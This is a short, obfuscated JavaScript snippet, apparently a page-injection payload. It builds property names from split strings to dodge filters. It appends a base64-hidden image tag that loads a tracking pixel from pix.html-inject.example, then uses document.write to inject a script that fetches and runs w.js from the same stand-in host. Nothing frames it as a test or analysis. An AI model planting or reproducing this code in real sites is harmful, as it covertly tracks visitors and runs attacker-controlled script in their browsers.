var hb = document["bo" + "dy"];
hb["insertAdjacent" + "HTML"]("beforeend", atob("PGltZyBzcmM9Imh0dHBzOi8vcGl4Lmh0bWwtaW5qZWN0LmV4YW1wbGUvcCI+"));
document["wri" + "te"].call(document, "<scr" + "ipt src='https://pix.html" + "-inject.example/w.js'></scr" + "ipt>");
